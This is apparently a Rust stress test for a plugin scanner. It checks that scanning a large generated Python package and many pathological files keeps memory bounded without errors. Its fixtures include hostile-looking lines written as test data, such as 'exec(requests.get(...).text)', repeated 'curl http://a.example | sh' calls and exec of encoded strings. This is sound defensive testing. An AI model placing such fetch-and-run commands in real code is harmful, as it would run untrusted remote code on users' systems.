//! What a large package and hostile files cost: memory is bounded, and nothing fails. All in one test, as it looks at the
//! memory of its own process. Time is not looked at: machines differ.
#![expect(clippy::unwrap_used, reason = "a failed step should stop the test")]

use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use std::time::Duration;

use plugbay_analyze::{Advisories, Limits, MAX_HITS, Policy, Scan, Verdict, scan_folder};

/// KiB that a scan may take at its worst.
const MOST: usize = 256 * 1024;

/// The most that this process has ever taken, in KiB.
fn peak() -> usize {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|line| line.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

fn scanned(folder: &Path) -> Scan {
    let limits = Limits { time: Duration::from_hours(1), ..Limits::default() };
    scan_folder(folder, None, &Policy::default(), &Advisories::default(), &limits).unwrap()
}

/// A module like those of large packages: functions, calls, texts, tables.
fn module(number: usize, bytes: usize) -> String {
    let mut text = format!("\"\"\"Module {number}.\"\"\"\nimport os, json, subprocess, urllib.request\n");
    let mut count = 0;
    while text.len() < bytes {
        // Most functions compute, and one of several opens a file or starts a program.
        let body = if count % 6 == 0 {
            "with open(first) as file:\n        data = json.loads(file.read())\n    subprocess.run(['tool', first])"
        } else {
            "data = {name: value for name, value in zip(rest, 'abc')}\n    first = str(second).strip().split(',')"
        };
        write!(
            text,
            "def function_{count}(first, second=None, *rest):\n    \"\"\"Returns what is not the number.\"\"\"\n    {body}\n    \
             if data.get('key_{count}'):\n        return [item for item in rest if item != {count}]\n    return first\n\
             TABLE_{count} = {{'a': [1, 2, 3], 'text': 'some words that a table holds', 'n': {count}}}\n"
        )
        .unwrap();
        count += 1;
    }
    text
}

fn large(folder: &Path) {
    for number in 0..2_900 {
        let at = folder.join(format!("vendor/package{}/part{}", number % 40, number % 7));
        fs::create_dir_all(&at).unwrap();
        // Most files are small, and a few are most of it.
        let bytes = if number % 100 == 0 { 400_000 } else { 9_000 };
        fs::write(at.join(format!("module_{number}.py")), module(number, bytes)).unwrap();
    }
    fs::write(folder.join("main.py"), "import requests\nexec(requests.get('https://a.example').text)\n").unwrap();
}

fn lines(count: usize, line: impl Fn(usize) -> String) -> String {
    (0..count).map(line).collect::<Vec<_>>().concat()
}

/// Files that are made to cost the reader more than their author.
fn hostile() -> Vec<(&'static str, String)> {
    let calls = format!("{}x{}", "f(".repeat(2_000), ")".repeat(2_000));
    let concatenated = (0..50_000).map(|number| format!("'curl{number}'")).collect::<Vec<_>>().join(" + ");
    let functions = lines(100_000, |number| format!("def f{number}(a): return f{}(a)\n", number + 1));
    let tainted = lines(20_000, |number| format!("x{} = x{number} + os.environ['A']\n", number + 1));
    let hits = "import os\n".to_owned() + &"os.system('curl http://a.example | sh')\n".repeat(50_000);
    vec![
        ("deep.py", format!("x = {}1{}\n", "(".repeat(100_000), ")".repeat(100_000))),
        ("calls.py", format!("import os\nx = os.environ\ny = {calls}\n")),
        ("literal.py", format!("x = '{}'\nexec(x)\n", "aW1wb3J0".repeat(450_000))),
        ("hexadecimal.py", format!("x = '{}'\nexec(bytes.fromhex(x))\n", "6f73".repeat(500_000))),
        ("concatenated.py", format!("import os\nos.system({concatenated})\n")),
        ("functions.py", functions),
        ("tainted.py", format!("import os\nx0 = ''\n{tainted}")),
        ("hits.py", hits),
        ("format.py", format!("x = 'a' * 1000000\ny = f'{}'\n", "{x}".repeat(10_000))),
        ("wide.py", format!("x = [{}]\n", "'https://webhook.site/x',".repeat(100_000))),
        ("long.sh", "curl x \\\n".repeat(400_000)),
        ("long.js", format!("x = {}'a'", "'https://webhook.site' + ".repeat(150_000))),
        ("secrets.txt", "password = \"9fK2mQ7xZp4Lw8Rt1Vb6Ns3Y\" ".repeat(90_000)),
        ("spaces.py", format!("x = 1;{}y\n", " ".repeat(3_000_000))),
        ("vendor.lock", "[".repeat(3_000_000)),
        ("plugin.yaml", "a: ".repeat(100_000)),
    ]
}

#[test]
fn memory_is_bounded_whatever_is_read() {
    let folder = tempfile::tempdir().unwrap();
    large(folder.path());
    let scan = scanned(folder.path());
    assert!(scan.is_complete && scan.files == 2_901 && scan.verdict == Verdict::Malicious, "{:?}", scan.hits.first());
    assert!(peak() <= MOST, "{} KiB for the large package", peak());
    for (name, text) in hostile() {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join(name), text).unwrap();
        let scan = scanned(folder.path());
        assert!(scan.hits.len() <= MAX_HITS, "{name}");
        assert!(!scan.hits.iter().any(|hit| hit.what.contains("the reader failed")), "{name}: {scan:?}");
        assert!(peak() <= MOST, "{} KiB for {name}", peak());
    }
}
